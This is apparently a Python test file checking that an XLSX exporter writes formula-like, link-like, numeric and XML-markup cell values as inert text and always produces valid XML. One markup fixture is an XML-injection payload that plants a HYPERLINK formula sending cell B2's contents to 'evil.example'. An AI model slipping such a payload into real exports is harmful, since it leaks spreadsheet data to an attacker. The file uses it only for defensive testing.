"""XLSX, read back by another library."""

import io
import zipfile
from pathlib import Path

import pytest
from lxml import etree
from openpyxl import load_workbook

from app.services.exports.book import Book
from tests.services.exports.files import row, rows_of, written, xlsx_rows
from tests.services.exports.libreoffice import first_column

FORMULAS = ["=1+1", "{=1+1}", "@SUM(A1)", "http://example.org", "123", "-1", "=HYPERLINK(1)"]
# XlsxWriter takes what begins and ends so for XML of its own making.
MARKUP = [
    "<r>Tom & Jerry</r>",
    "<r><t>Oui.</t></r>",
    '<r><t>x</t></r></is></c><c r="H2"><f>HYPERLINK("http://evil.example/?"&amp;B2,"Cliquez")</f></c>'
    '<c r="I2" t="inlineStr"><is><r><t>x</t></r>',
]


def test_what_looks_like_a_formula_a_link_or_a_number_is_text() -> None:
    sheet = load_workbook(io.BytesIO(written("xlsx", rows_of(*FORMULAS), ["normalized"]))).active
    cells = [line[0] for line in sheet.iter_rows(min_row=2)]
    assert [cell.value for cell in cells] == FORMULAS
    assert {cell.data_type for cell in cells[1:6]} == {"s"}
    content = zipfile.ZipFile(io.BytesIO(written("xlsx", rows_of(*FORMULAS)))).read(
        "xl/worksheets/sheet1.xml"
    )
    assert b"<f>" not in content
    assert b"hyperlink" not in content


@pytest.mark.parametrize("text", MARKUP)
def test_what_looks_like_markup_is_text(text: str) -> None:
    sheet = load_workbook(io.BytesIO(written("xlsx", rows_of(text), ["normalized", "page"]))).active
    assert [[cell.value for cell in line] for line in sheet.iter_rows(min_row=2)] == [[text, 3]]
    assert sheet["A2"].data_type == "s"


def test_libreoffice_shows_the_same_texts_and_computes_none(tmp_path: Path) -> None:
    texts = [*FORMULAS, *MARKUP, "_x0041_", "_x0041_x0042_", "_x0041\x01", "_x000D_", "a\rb", "\ufffe\uffff"]
    texts += ["  bords  ", "é" * 32_767, "👩‍👧 مرحبا"]
    assert first_column(written("xlsx", rows_of(*texts), ["normalized"]), "xlsx", tmp_path / "ours") == texts


def test_the_header_is_bold_and_stays_in_view() -> None:
    sheet = load_workbook(io.BytesIO(written("xlsx", rows_of("Oui."), ["page", "normalized"]))).active
    assert [cell.value for cell in sheet[1]] == ["Page", "Short sentence"]
    assert all(cell.font.bold for cell in sheet[1])
    assert (sheet.freeze_panes, sheet.auto_filter.ref) == ("A2", "A1:B2")


def test_numbers_are_numbers_and_nothing_is_an_empty_cell() -> None:
    rows = xlsx_rows(written("xlsx", [row("Oui.", chapter=None, words=1)], ["page", "chapter", "words"]))
    assert rows[1] == [3, None, 1]


def test_a_text_that_no_cell_can_hold_is_cut_and_says_so() -> None:
    fits, long = "é" * 32_767, "👩" * 20_000
    cells = [line[0] for line in xlsx_rows(written("xlsx", rows_of(fits, long), ["normalized"]))[1:]]
    assert cells == [fits, "👩" * 16_383 + "…"]


def test_a_hostile_title_leaves_a_sheet_that_opens() -> None:
    book = Book("<&>\"' ]] " + "x" * 300, "ab" * 32, "cd" * 32, {})
    workbook = load_workbook(io.BytesIO(written("xlsx", rows_of("Oui."), book=book)))
    assert workbook.properties.title == book.title


@pytest.mark.parametrize("text", ["\x01\x1f", "\ufffe\uffff", "a\rb\x0b", "_x0041_", "\x7f\x85"])
def test_what_xml_cannot_hold_leaves_good_xml(text: str) -> None:
    package = zipfile.ZipFile(io.BytesIO(written("xlsx", rows_of(text), ["normalized"])))
    etree.fromstring(package.read("xl/worksheets/sheet1.xml"))


def test_no_rows_are_a_header_alone() -> None:
    assert len(xlsx_rows(written("xlsx", []))) == 1
